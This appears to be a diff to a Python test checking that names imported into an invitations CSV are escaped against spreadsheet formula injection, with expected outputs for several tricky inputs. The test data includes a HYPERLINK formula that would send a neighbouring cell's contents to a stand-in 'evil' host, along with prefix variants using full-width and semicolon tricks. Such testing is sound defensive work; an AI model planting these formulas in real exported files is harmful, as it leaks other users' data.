@@ -47,12 +47,15 @@ def test_a_name_is_no_formula_beside_the_links(server, name, tmp_path):
     """It could send the links of all others away, once the file is open in a spreadsheet."""
     company, _ = name
     server.company(company)
-    names = ['=HYPERLINK("http://evil/?"&C3,"open")', "+1", "-1", "@x", "Ann"]
+    shown = {'=HYPERLINK("http://evil/?"&C3,"open")': '\'=HYPERLINK("http://evil/?"&C3,"open")', "+1": "'+1", "-1": "'-1", "@x": "'@x",
+             "\uff1d1": "'\uff1d1", "\uff201": "'\uff201", "A;=1": "A;'=1", ";;+1": ";;'+1", "Ann": "Ann", "A;B": "A;B", "a-b": "a-b",
+             "\u5c71\u7530": "\u5c71\u7530"}
+    names = list(shown)
     rows = "".join(f'u{i}@{company}.example,"{text.replace(chr(34), 2 * chr(34))}"\n' for i, text in enumerate(names))
     invitations = tmp_path / "invitations.csv"
     server.cli("technician", "import", written(tmp_path, "email,name\n" + rows), "--company", company, "--invitations", invitations)
     with open(invitations, encoding="utf-8", newline="") as lines:
-        assert [row["name"] for row in csv.DictReader(lines)] == ["'" + text for text in names[:4]] + ["Ann"]
+        assert [row["name"] for row in csv.DictReader(lines)] == list(shown.values())
     assert server.cli("technician", "show", f"u0@{company}.example")["name"] == names[0]
 
 
